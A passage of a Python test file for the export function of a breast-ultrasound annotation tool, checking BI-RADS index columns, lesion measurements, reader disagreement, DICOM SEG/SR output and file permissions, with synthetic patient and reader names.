        "pixel_spacing_col_mm", "readers", "reader_labels", "labels_agree", "adjudicated",
    )  # fmt: skip
    with open(out / "index.csv", newline="", encoding="utf-8") as handle:
        rows = {r["worklist_path"]: r for r in csv.DictReader(handle)}
    birads = INDEX_COLUMNS[9:15]
    # The margin in the lexicon's order; "none" is a posterior feature, not an empty cell.
    assert [rows["study1/b.png"][c] for c in birads] == [
        "4A", "oval", "", "angular; microlobulated", "", "none"]
    assert rows["study1/b.png"]["version"] == "2"
    assert [rows["study2/a.png"][c] for c in birads] == [""] * 6  # saved without
    assert "Jane Doe" not in (out / "index.csv").read_text(encoding="utf-8")
    # The models' loader reads the index as before: its groups, the other columns ignored.
    assert {(s.class_name, s.name, s.group) for s in load_samples(out)} == {
        ("benign", "benign (1)", saved["sha"]["b"][:16]),
        ("malignant", "malignant (1)", saved["sha"]["a"][:16]),
        ("normal", "normal (1)", saved["sha"]["c"][:16]),
    }


def test_the_index_gives_the_lesion_size_in_px_and_in_mm_with_the_spacing(saved, tmp_path):
    from annotation_client._export import measurement_columns

    # a (v2, malignant): measured in pixels, as saved.
    out = tmp_path / "out"
    export_busi(saved["data"], saved["worklist"], out, with_paths=True)
    with open(out / "index.csv", newline="", encoding="utf-8") as handle:
        rows = {r["worklist_path"]: r for r in csv.DictReader(handle)}
    a = rows["study2/a.png"]
    assert a["area_px"] == "24" and a["area_mm2"] == "" and a["pixel_spacing_row_mm"] == ""
    assert float(a["long_axis_px"]) == pytest.approx(np.hypot(6, 4))  # the 6 x 4 block
    # With a spacing, the same in mm, and the spacing itself.
    record = {"image": {"pixel_spacing_mm": [0.1, 0.2]},
              "measurements": summarize(saved["lesion"], (0.1, 0.2))}
    columns = measurement_columns(record)
    assert columns["area_mm2"] == f"{24 * 0.02:.6g}"
    assert (columns["pixel_spacing_row_mm"], columns["pixel_spacing_col_mm"]) == ("0.1", "0.2")
    assert float(columns["long_axis_mm"]) == pytest.approx(np.hypot(6 * 0.2, 4 * 0.1))
    # A record that states none of it (an old or odd one): empty cells, no error.
    assert set(measurement_columns({"measurements": {"largest": None}}).values()) == {""}
    assert measurement_columns({"measurements": {"area_px": float("nan")}})["area_px"] == ""


def test_an_image_whose_descriptors_are_outside_the_lexicon_is_left_out(saved, tmp_path):
    import json

    path = saved["data"] / saved["sha"]["b"] / "v001.json"
    record = json.loads(path.read_text(encoding="utf-8"))
    record["final"]["descriptors"]["assessment"] = "4"  # BI-RADS 4 is 4A, 4B or 4C
    path.write_text(json.dumps(record), encoding="utf-8")
    report = export_busi(saved["data"], saved["worklist"], tmp_path / "out")
    assert report.exported == {"normal": 1, "benign": 0, "malignant": 1}
    reasons = {where.rsplit("/", 1)[-1]: why for where, why in report.skipped}
    assert reasons[saved["sha"]["b"]].startswith(
        "its descriptors: descriptors['assessment'] = '4' is not one of 0, 1, 2, 3, 4A")


def _export_marking(saved, tmp_path, monkeypatch, argv=()):
    """Damage c's latest record in place (its size and time kept, so no stamp shows it),
    run the command line, and say whether the client's index lists it as damaged."""
    from annotation_client._database import AnnotationIndex, default_url

    index = AnnotationIndex(default_url(saved["data"]))
    index.sync(saved["data"])
    record = saved["data"] / saved["sha"]["c"] / "v001.json"
    stamp = record.stat()
    text = record.read_bytes()
    record.write_bytes(b"[" + text[1:])  # as long as before
    os.utime(record, ns=(stamp.st_atime_ns, stamp.st_mtime_ns))
    index.sync(saved["data"])  # the next start: the stamp has not moved
    assert not _damaged(index, saved["sha"]["c"])
    monkeypatch.setenv("SONOTRACE_DATA_DIR", str(saved["data"]))
    monkeypatch.setenv("SONOTRACE_WORKLIST_DIR", str(saved["worklist"]))
    assert main(["--out", str(tmp_path / "out"), *argv]) == 0
    return _damaged(index, saved["sha"]["c"])


def _damaged(index, sha):
    return next(r["damaged"] for r in index.query() if r["image_sha256"] == sha)


def test_the_command_line_marks_a_damaged_record_in_the_clients_index(saved, tmp_path,
                                                                      monkeypatch):
    assert _export_marking(saved, tmp_path, monkeypatch).startswith("Expecting ',' delimiter")


def test_the_command_line_leaves_an_index_of_another_folder_alone(saved, tmp_path, capsys,
                                                                   monkeypatch):
    # SONOTRACE_DATABASE_URL indexes the configured data folder, not the one exported.
    from annotation_client._database import AnnotationIndex

    url = f"sqlite:///{tmp_path / 'served.sqlite3'}"
    served = AnnotationIndex(url)
    served.sync(saved["data"])
    copy = tmp_path / "copy"
    shutil.copytree(saved["data"], copy)
    (copy / saved["sha"]["c"] / "v001.json").write_text("[]")
    monkeypatch.setenv("SONOTRACE_DATA_DIR", str(saved["data"]))
    monkeypatch.setenv("SONOTRACE_DATABASE_URL", url)
    monkeypatch.setenv("SONOTRACE_WORKLIST_DIR", str(saved["worklist"]))
    assert main(["--out", str(tmp_path / "out"), "--data-dir", str(copy)]) == 0
    assert "is damaged: the record is not a JSON object" in capsys.readouterr().out
    assert _damaged(served, saved["sha"]["c"]) is None


def test_the_command_line_creates_no_index(saved, tmp_path, monkeypatch):
    # A folder no client has served: a damaged record in it is reported, not indexed.
    (saved["data"] / saved["sha"]["c"] / "v001.json").write_text("[]")
    monkeypatch.setenv("SONOTRACE_DATA_DIR", str(saved["data"]))
    monkeypatch.setenv("SONOTRACE_WORKLIST_DIR", str(saved["worklist"]))
    assert main(["--out", str(tmp_path / "out")]) == 0
    assert not (saved["data"] / "index.sqlite3").exists()


def test_readers_who_disagree_are_said_and_an_adjudication_is_marked(saved, tmp_path, capsys,
                                                                     monkeypatch):
    # A double-read study's export took whoever saved last for the truth, and said
    # nothing of the other reader's different label.
    store = AnnotationStore(saved["data"])
    b = (saved["worklist"] / "study1" / "b.png").read_bytes()
    _save(store, b, label="malignant", mask=saved["lesion"], worklist_path="study1/b.png",
          annotator="Dr Bo", day=3)  # v2, his own read  # fmt: skip
    monkeypatch.setenv("SONOTRACE_DATA_DIR", str(saved["data"]))
    monkeypatch.setenv("SONOTRACE_WORKLIST_DIR", str(saved["worklist"]))
    assert main(["--out", str(tmp_path / "out")]) == 0
    printed = capsys.readouterr().out
    assert ("readers disagree on the label of 1 exported image(s) that no version "
            "adjudicated") in printed
    # Numbered in worklist-path order: study1/b.png first.
    assert ('disagreed malignant/malignant (1).png: {"Dr Ada": "benign", "Dr Bo": "malignant"}'
            in printed)
    with open(tmp_path / "out" / "index.csv", newline="", encoding="utf-8") as handle:
        rows = {r["name"]: r for r in csv.DictReader(handle)}
    columns = ("annotator", "readers", "reader_labels", "labels_agree", "adjudicated")
    assert [rows["malignant (1)"][c] for c in columns] == [
        "Dr Bo", "2", '{"Dr Ada": "benign", "Dr Bo": "malignant"}', "no", "no"]
    # JSON, so that a name holding "; " or ": " cannot read as two readers.
    assert json.loads(rows["malignant (1)"]["reader_labels"]) == {
        "Dr Ada": "benign", "Dr Bo": "malignant"}
    # One reader, twice: nothing to agree on.
    assert [rows["malignant (2)"][c] for c in columns] == [
        "Dr Ada", "1", '{"Dr Ada": "malignant"}', "", "no"]
    # A reviewer revises Dr Bo's version: adjudicated, and no longer listed.
    _save(store, b, label="benign", mask=saved["lesion"], worklist_path="study1/b.png",
          annotator="Dr Rev", day=4, based_on={"version": 2, "annotator": "Dr Bo"})
    report = export_busi(saved["data"], saved["worklist"], tmp_path / "again")
    assert report.disagreed == []
    with open(tmp_path / "again" / "index.csv", newline="", encoding="utf-8") as handle:
        row = next(r for r in csv.DictReader(handle) if r["annotator"] == "Dr Rev")
    assert [row[c] for c in columns[1:]] == [
        "3", '{"Dr Ada": "benign", "Dr Bo": "malignant", "Dr Rev": "benign"}', "no", "yes"]


def test_a_version_saved_while_the_export_runs_is_not_in_the_row(saved, tmp_path,
                                                                 monkeypatch):
    # The reader columns came from the image's versions listed again after the slow
    # pass over every image: a version saved meanwhile gave a row the class and version
    # of one reading and the readers of another (audit 701, F5).
    from annotation_client import _export

    store = AnnotationStore(saved["data"])
    b = (saved["worklist"] / "study1" / "b.png").read_bytes()
    real, saves = _export._final_mask, []

    def final_mask(store_, sha, version, shape):
        if not saves:  # another reader saves while the export is reading the images
            saves.append(_save(store, b, label="malignant", mask=saved["lesion"],
                               worklist_path="study1/b.png", annotator="Dr Bo", day=3))
        return real(store_, sha, version, shape)

    monkeypatch.setattr(_export, "_final_mask", final_mask)
    report = export_busi(saved["data"], saved["worklist"], tmp_path / "out")
    assert store.versions(saved["sha"]["b"]) == [1, 2]  # saved during the export
    with open(tmp_path / "out" / "index.csv", newline="", encoding="utf-8") as handle:
        row = next(r for r in csv.DictReader(handle) if r["sha256"] == saved["sha"]["b"])
    columns = ("class", "version", "annotator", "readers", "reader_labels", "labels_agree")
    assert [row[c] for c in columns] == [
        "benign", "1", "Dr Ada", "1", '{"Dr Ada": "benign"}', ""]
    assert report.disagreed == []  # Dr Bo's reading came after the one exported
    # The next export takes it.
    again = export_busi(saved["data"], saved["worklist"], tmp_path / "again")
    assert again.disagreed == [
        ("malignant/malignant (1).png", '{"Dr Ada": "benign", "Dr Bo": "malignant"}')]


def test_dicom_images_get_a_dicom_seg_of_their_outline_when_asked(
    saved, tmp_path, capsys, monkeypatch
):
    """--dicom-seg: a SEG beside the class folders for each image opened from a DICOM,
    referring to it; the PNG images get none; a cine loop is exported but said."""
    import highdicom as hd
    import pydicom
    from image_samples import dicom_bytes

    study, series = pydicom.uid.generate_uid(), pydicom.uid.generate_uid()
    still = dicom_bytes(saved["grey"], StudyInstanceUID=study, SeriesInstanceUID=series,
                        PatientID="P-9")
    cine = dicom_bytes(np.stack([saved["grey"]] * 3), StudyInstanceUID=study,
                       SeriesInstanceUID=series)
    store = AnnotationStore(saved["data"])
    for name, data in (("e.dcm", still), ("f.dcm", cine)):
        (saved["worklist"] / name).write_bytes(data)
        _save(store, data, label="malignant", mask=saved["lesion"], worklist_path=name,
              annotator="Dr Seg")
    plain = tmp_path / "plain"
    export_busi(saved["data"], saved["worklist"], plain)
    assert not (plain / "dicom_seg").exists()  # only when asked: it carries the patient

    monkeypatch.setenv("SONOTRACE_DATA_DIR", str(saved["data"]))
    monkeypatch.setenv("SONOTRACE_WORKLIST_DIR", str(saved["worklist"]))
    out = tmp_path / "out"
    assert main(["--out", str(out), "--dicom-seg"]) == 0
    printed = capsys.readouterr().out
    assert f"wrote 1 DICOM SEG file(s) to {out / 'dicom_seg'}" in printed
    with open(out / "index.csv", encoding="utf-8") as handle:
        rows = {row["sha256"]: row for row in csv.DictReader(handle)}
    loop = rows[hashlib.sha256(cine).hexdigest()]["name"]
    assert f"no DICOM SEG for {loop}: the DICOM file holds 3 frames" in printed
    name = rows[hashlib.sha256(still).hexdigest()]["name"]
    (seg_file,) = (out / "dicom_seg").iterdir()
    assert seg_file.name == f"{name}_seg.dcm"
    seg = hd.seg.segread(seg_file)
    image = pydicom.dcmread(io.BytesIO(still))
    assert seg.get_source_image_uids() == [(study, series, image.SOPInstanceUID)]
    assert seg.PatientID == "P-9" and str(seg.ContentCreatorName) == "Dr Seg^"
    assert seg.ContentDescription == "Lesion outline, final label malignant"
    assert seg.SegmentSequence[0].SegmentAlgorithmType == "MANUAL"  # no model outlined it
    np.testing.assert_array_equal(seg.pixel_array.astype(bool), saved["lesion"])
    # The models' loader reads the class folders as before: the SEGs are not samples.
    assert len(load_samples(out)) == 5


def test_dicom_images_with_a_pixel_spacing_get_a_dicom_sr_of_their_measurements(
    saved, tmp_path, capsys, monkeypatch
):
    """--dicom-sr: an SR beside the class folders for each image opened from a DICOM whose
    version states a pixel spacing, measuring its mask in mm; one without a spacing is
    exported all the same and listed; the PNG images get none."""
    import highdicom as hd
    import pydicom
    from image_samples import dicom_bytes

    study, series = pydicom.uid.generate_uid(), pydicom.uid.generate_uid()
    spaced = dicom_bytes(saved["grey"], StudyInstanceUID=study, SeriesInstanceUID=series,
                         PatientID="P-9")
    unspaced = dicom_bytes(255 - saved["grey"], StudyInstanceUID=study,
                           SeriesInstanceUID=series)
    spacing = (0.1, 0.2)
    store = AnnotationStore(saved["data"])
    (saved["worklist"] / "g.dcm").write_bytes(spaced)
    _save(store, spaced, label="benign", mask=saved["lesion"], worklist_path="g.dcm",
          annotator="Dr Sr", spacing=spacing)
    (saved["worklist"] / "h.dcm").write_bytes(unspaced)
    _save(store, unspaced, label="benign", mask=saved["lesion"], worklist_path="h.dcm")
    plain = tmp_path / "plain"
    export_busi(saved["data"], saved["worklist"], plain)
    assert not (plain / "dicom_sr").exists()  # only when asked: it carries the patient

    monkeypatch.setenv("SONOTRACE_DATA_DIR", str(saved["data"]))
    monkeypatch.setenv("SONOTRACE_WORKLIST_DIR", str(saved["worklist"]))
    out = tmp_path / "out"
    assert main(["--out", str(out), "--dicom-sr"]) == 0
    printed = capsys.readouterr().out
    assert f"wrote 1 DICOM SR file(s) to {out / 'dicom_sr'}" in printed
    assert not (out / "dicom_seg").exists()  # each is asked for apart
    with open(out / "index.csv", encoding="utf-8") as handle:
        rows = {row["sha256"]: row for row in csv.DictReader(handle)}
    other = rows[hashlib.sha256(unspaced).hexdigest()]["name"]
    assert f"no DICOM SR for {other}: its version states no pixel spacing" in printed
    row = rows[hashlib.sha256(spaced).hexdigest()]
    (sr_file,) = (out / "dicom_sr").iterdir()
    assert sr_file.name == f"{row['name']}_sr.dcm"
    report = hd.sr.srread(sr_file)
    image = pydicom.dcmread(io.BytesIO(spaced))
    assert report.PatientID == "P-9" and report.StudyInstanceUID == study
    evidence = report.CurrentRequestedProcedureEvidenceSequence[0]
    assert evidence.ReferencedSeriesSequence[0].ReferencedSOPSequence[0] \
        .ReferencedSOPInstanceUID == image.SOPInstanceUID
    (group,) = report.content.get_planar_roi_measurement_groups()
    measured = {m.name.meaning: (m.value, m.unit.value) for m in group.get_measurements()}
    # 4 x 6 pixels of 0.1 x 0.2 mm: the version's mask, at the version's spacing.
    area = np.count_nonzero(saved["lesion"]) * spacing[0] * spacing[1]
    assert measured["Area"] == (pytest.approx(area), "mm2")
    assert float(row["area_mm2"]) == pytest.approx(area)  # as its record says
    (impression,) = group.get_qualitative_evaluations()
    assert impression.value.meaning == "Benign"
    observer = report.content.get_observer_contexts()[0]
    assert str(observer.observer_identifying_attributes[0].value) == "Dr Sr^"
    assert len(load_samples(out)) == 5  # the SRs are not samples either


def test_the_command_line_writes_the_export_for_its_user_only(saved, tmp_path, monkeypatch):
    # Audit 711: under the usual umask 022 the images, masks and DICOM files (the patient's
    # name and ID) were world-readable, where the data folder they come from is not.
    import os
    import stat

    monkeypatch.setenv("SONOTRACE_DATA_DIR", str(saved["data"]))
    monkeypatch.setenv("SONOTRACE_WORKLIST_DIR", str(saved["worklist"]))
    before = os.umask(0o022)
    try:
        assert main(["--out", str(tmp_path / "out")]) == 0
        assert os.umask(0o022) == 0o022  # the caller's umask is given back
    finally:
        os.umask(before)
    written = list((tmp_path / "out").rglob("*"))
    assert written and all(stat.S_IMODE(p.stat().st_mode) & 0o077 == 0 for p in written)


def test_a_lesion_reading_without_an_outline_gets_no_dicom_seg(saved, tmp_path, capsys,
                                                               monkeypatch):
    # Audit 916 F1: exported without a mask file, it still got a SEG whose empty lesion
    # segment says "no lesion found", the opposite of its reading, for the PACS.
    import pydicom
    from image_samples import dicom_bytes

    still = dicom_bytes(saved["grey"], StudyInstanceUID=pydicom.uid.generate_uid(),
                        SeriesInstanceUID=pydicom.uid.generate_uid())
    (saved["worklist"] / "e.dcm").write_bytes(still)
    _save(AnnotationStore(saved["data"]), still, label="malignant",
          mask=np.zeros_like(saved["lesion"]), worklist_path="e.dcm", annotator="Dr Seg")
    monkeypatch.setenv("SONOTRACE_DATA_DIR", str(saved["data"]))
    monkeypatch.setenv("SONOTRACE_WORKLIST_DIR", str(saved["worklist"]))
    out = tmp_path / "out"
    assert main(["--out", str(out), "--dicom-seg"]) == 0
    printed = capsys.readouterr().out
    assert "wrote 0 DICOM SEG file(s)" in printed
    assert ("it is labelled malignant but outlines nothing, and a SEG of an empty lesion "
            "segment would say no lesion was found") in printed
    assert not (out / "dicom_seg").exists() or not any((out / "dicom_seg").iterdir())


def test_an_out_folder_that_cannot_be_listed_is_refused_with_exit_2(saved, tmp_path,
                                                                     monkeypatch, capsys):
    # A folder of another user's, mode 0700, failed its listing before the staging
    # folder's errors were mapped: exit 1, "could not be written" (review 1010, F3).
    # Root reads every folder, so the listing's EACCES is raised here as the kernel
    # raises it for anyone else.
    out = tmp_path / "theirs"
    out.mkdir()
    listing = Path.iterdir

    def denied(path):
        if path == out:
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(path))
        return listing(path)

    monkeypatch.setattr(Path, "iterdir", denied)
    assert main(["--out", str(out), "--data-dir", str(saved["data"]),
                 "--worklist-dir", str(saved["worklist"])]) == 2
    assert capsys.readouterr().err == (f"error: out: {out} cannot be read (Permission "
                                       "denied); nothing was written\n")
